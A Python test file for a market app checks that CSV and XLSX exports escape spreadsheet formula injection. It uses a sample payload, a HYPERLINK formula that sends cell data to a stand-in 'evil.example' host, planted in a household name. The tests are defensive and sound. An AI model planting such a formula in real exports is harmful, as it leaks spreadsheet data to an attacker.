"""Text that a spreadsheet could run as a formula stays text in every CSV and XLSX export; a
control character in old data no longer breaks an XLSX list."""

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from market.spreadsheets import FORMULA_TRIGGERS, csv_cell, may_run, restored
from tests.catalog.test_spreadsheet import send
from tests.factories import ProductFactory

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
DOWNLOADS = (
    "pickup-list.csv",
    "pickup-list.xlsx",
    "matrix.csv",
    "matrix.xlsx",
    "summary.csv",
    "summary.xlsx",
    "lists.zip",
)


@pytest.fixture
def hostile_cycle(db, closed_cycle):
    martin = closed_cycle["people"]["martin"].household
    martin.name = EVIL
    martin.second_collector = "+33 6 00 00 00 00"
    closed_cycle["people"]["dupuy"].household.name = "Anne\x01 Dupuy"  # stored before the fix
    db.session.commit()
    return closed_cycle


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_exported_cell_can_run_as_a_formula(coordinator_client, hostile_cycle):
    cycle = hostile_cycle["cycle"].id
    for name in DOWNLOADS:
        response = coordinator_client.get(f"/coordination/cycles/{cycle}/{name}")
        assert response.status_code == 200, name
        if name.endswith(".csv"):
            cells = csv_cells(response.data)
            if name.startswith("pickup-list"):
                assert any(cell.startswith("'" + EVIL) for cell in cells)
            assert not [cell for cell in cells if may_run(cell)], name
        elif name.endswith(".xlsx"):
            cells = xlsx_cells(response.data)
            assert not [cell for cell in cells if cell.data_type == "f"], name
            if name.startswith("pickup-list"):
                evil = [cell for cell in cells if str(cell.value).startswith(EVIL)]
                assert evil and {cell.data_type for cell in evil} == {"s"}
                assert any(str(cell.value).startswith("Anne Dupuy") for cell in cells)


def test_every_file_of_the_zip_is_safe(coordinator_client, hostile_cycle):
    response = coordinator_client.get(f"/coordination/cycles/{hostile_cycle['cycle'].id}/lists.zip")
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.endswith(".xlsx"):
                assert not [
                    cell for cell in xlsx_cells(archive.read(name)) if cell.data_type == "f"
                ], name
            if name.endswith(".csv"):
                assert not [
                    cell for cell in csv_cells(archive.read(name)) if cell.startswith(EVIL)
                ], name


def test_the_producers_list_is_safe_too(app, db, hostile_cycle):
    from tests.conftest import logged_in_client

    farm = hostile_cycle["farm"]
    app.config["HUB_PRODUCER_LIST_NAMES"] = True
    client = logged_in_client(app, hostile_cycle["farmer"])
    url = f"/producers/{farm.id}/manage/lists/{hostile_cycle['cycle'].id}"
    assert any(cell.startswith("'" + EVIL) for cell in csv_cells(client.get(url + ".csv").data))
    assert not [
        cell for cell in xlsx_cells(client.get(url + ".xlsx").data) if cell.data_type == "f"
    ]


def test_ledger_csv_labels_are_neutralised(coordinator_client, hostile_cycle):
    text = coordinator_client.get("/ledger/balances.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    assert not [cell for row in rows for cell in row if cell.startswith("=")]


NAMES = ["=1+1", "+33 5 59", "-moins", "@SUM(A1)", "'=déjà échappé", "'apostrophe", "-12,50"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_catalogue_reads_its_export_back_exactly(producer_client, producer_user, kind):
    producer = producer_user.producer
    for name in NAMES:
        ProductFactory(producer=producer, name=name, description=name)
    from market.extensions import db

    db.session.commit()
    exported = producer_client.get(f"/producers/{producer.id}/manage/export.{kind}")
    assert exported.status_code == 200
    if kind == "csv":
        assert "'=1+1" in csv_cells(exported.data)
    preview = send(producer_client, producer, exported.data, f"catalogue.{kind}")
    assert preview.status_code == 200
    assert f"{len(NAMES)} inchangés" in preview.text


@given(st.text())
def test_csv_escaping_is_undone_exactly(text):
    assert restored(csv_cell(text)) == text


@given(st.text(min_size=1))
def test_an_escaped_cell_never_starts_a_formula(text):
    cell = csv_cell(text)
    assert (
        cell[0] not in FORMULA_TRIGGERS
        or cell.lstrip("+-").replace(",", "").replace(".", "").isdigit()
    )
